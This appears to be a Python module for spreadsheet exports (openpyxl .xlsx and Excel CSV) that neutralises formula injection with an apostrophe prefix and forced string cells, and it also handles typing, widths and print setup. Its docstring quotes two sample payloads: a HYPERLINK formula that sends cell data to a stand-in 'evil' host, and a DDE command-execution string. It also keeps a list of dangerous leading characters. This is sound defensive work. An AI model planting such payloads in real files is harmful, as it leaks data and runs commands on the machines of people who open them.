"""Spreadsheet exports (.xlsx with openpyxl, .csv for Excel), safe against formula injection.

Formula injection (CSV/Excel injection): a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(or a tab / carriage return that a spreadsheet strips before parsing, or the full-width forms
``＝ ＋ － ＠`` that some spreadsheet versions normalise to ASCII) can be evaluated as a formula
when the file is opened, e.g. ``=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")`` leaks data and
``+cmd|' /C calc'!A0`` runs DDE. Unit and person names come from users, so every text cell is
guarded.

The guard is the one OWASP recommends: prefix the text with an apostrophe ``'`` and store it as a
plain string (``cell.data_type = "s"``). Why both:

* ``data_type = "s"`` alone keeps openpyxl from writing the value as a ``<f>`` formula element,
  so the .xlsx opens inert; but the moment someone edits the cell (F2, Enter), saves it as CSV or
  copies it into another sheet, the leading ``=`` is parsed again and the formula comes alive.
* The leading ``'`` makes the value inert in every program and every round trip (xlsx → csv →
  LibreOffice/Google Sheets/Excel). The cost is a visible apostrophe in front of the rare names
  that begin with one of those characters, which also tells the reader the text was neutralised.

Numbers (``int``, ``Decimal``, ``Fraction``) stay numbers and are never prefixed, so a negative
penalty ``-5`` passed as an ``int`` remains a number; pass numbers as numbers, not as text.
An ``int`` (money in đồng, counts, points) is shown with a thousands separator (``#,##0``: Excel
prints 10.000.000 in a Vietnamese locale, 10,000,000 in an English one); the cell keeps the exact
integer. ``Decimal`` and ``Fraction`` (rates) keep Excel's General format and their decimals.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from fractions import Fraction
from typing import Any

from .text import printable

__all__ = ["Sheet", "neutralise", "unneutralise", "write_csv", "write_xlsx"]

_DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_DATE_FORMAT = "dd/mm/yyyy"
_DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
_INTEGER_FORMAT = "#,##0"


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a title (≤ 31 characters in Excel), a header row, data rows.

    ``widths`` are column widths in Excel character units; ``None`` sizes each column to its
    longest value (between 6 and 60).
    """

    title: str
    headers: Sequence[str]
    rows: Sequence[Sequence[Any]]
    widths: Sequence[float] | None = None


def neutralise(text: str) -> str:
    """Return ``text`` with a leading ``'`` when a spreadsheet could read it as a formula."""
    return "'" + text if text.startswith(_DANGEROUS) else text


def unneutralise(text: str) -> str:
    """``text`` read back from a file this module wrote: without the apostrophe :func:`neutralise` added."""
    return text[1:] if text.startswith("'") and text[1:].startswith(_DANGEROUS) else text


def _cell_value(value: Any) -> Any:
    if isinstance(value, Fraction):
        return Decimal(value.numerator) / Decimal(value.denominator)
    return value


def _display_len(value: Any) -> int:
    if isinstance(value, (date, datetime)):
        return 10
    return max((len(part) for part in str(value).split("\n")), default=0)


def _safe_title(title: str, used: set[str]) -> str:
    cleaned = "".join("_" if c in "[]:*?/\\" else c for c in title).strip("'") or "Sheet"
    cleaned = cleaned[:31]
    base, n = cleaned, 2
    while cleaned.lower() in used:
        suffix = f" ({n})"
        cleaned = base[: 31 - len(suffix)] + suffix
        n += 1
    used.add(cleaned.lower())
    return cleaned


def write_xlsx(sheets: Sequence[Sheet]) -> bytes:
    """Write the sheets to an .xlsx workbook: bold frozen header row, widths, typed cells."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    wb.remove(wb.active)
    used: set[str] = set()
    bold = Font(bold=True)
    header_align = Alignment(horizontal="center", vertical="center", wrap_text=True)
    for sheet in sheets:
        ws = wb.create_sheet(_safe_title(sheet.title, used))
        ncols = len(sheet.headers)
        lengths = [0] * ncols
        for c, header in enumerate(sheet.headers, start=1):
            cell = ws.cell(row=1, column=c)
            _set(cell, str(header))
            cell.font = bold
            cell.alignment = header_align
            lengths[c - 1] = _display_len(header)
        for r, row in enumerate(sheet.rows, start=2):
            if len(row) != ncols:
                raise ValueError(f"sheet {sheet.title!r} row {r - 1} has {len(row)} cells, expected {ncols}")
            for c, value in enumerate(row, start=1):
                cell = ws.cell(row=r, column=c)
                _set(cell, value)
                lengths[c - 1] = max(lengths[c - 1], _display_len(value))
        ws.freeze_panes = "A2"
        widths = [sheet.widths[c] if sheet.widths is not None else min(max(lengths[c] + 2, 6), 60)
                  for c in range(ncols)]
        for c, width in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(c)].width = width
        _print_setup(ws, sum(widths))
    if not sheets:
        wb.create_sheet("Sheet")
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# An A4 page holds some 90 characters of column width upright, 130 on its side (Excel's default margins).
_PORTRAIT_WIDTH = 90


def _print_setup(ws, width: float) -> None:
    """Printed as an office prints a table: A4, on its side when the columns are wider than the page upright,
    every column on the page's width (as many pages down as it takes), the header row atop every page."""
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.orientation = "landscape" if width > _PORTRAIT_WIDTH else "portrait"
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.print_title_rows = "1:1"
    ws.print_options.horizontalCentered = True


def _set(cell, value: Any) -> None:
    value = _cell_value(value)
    if value is None:
        return
    if isinstance(value, str):
        text = neutralise(printable(value))
        cell.value = text
        cell.data_type = "s"  # never a formula, whatever openpyxl would guess
        if "\n" in text:
            from openpyxl.styles import Alignment

            cell.alignment = Alignment(wrap_text=True, vertical="top")
        return
    cell.value = value
    if isinstance(value, int) and not isinstance(value, bool):
        cell.number_format = _INTEGER_FORMAT
    elif isinstance(value, datetime):
        cell.number_format = _DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = _DATE_FORMAT


def _csv_text(value: Any) -> str:
    value = _cell_value(value)
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, (int, Decimal)):
        return str(value)
    return neutralise(printable(str(value)))


def write_csv(sheet: Sheet) -> bytes:
    """Write one sheet as CSV for Excel: UTF-8 with BOM, CRLF line ends, the same injection guard."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([neutralise(str(h)) for h in sheet.headers])
    for row in sheet.rows:
        writer.writerow([_csv_text(v) for v in row])
    return "\ufeff".encode() + buf.getvalue().encode("utf-8")
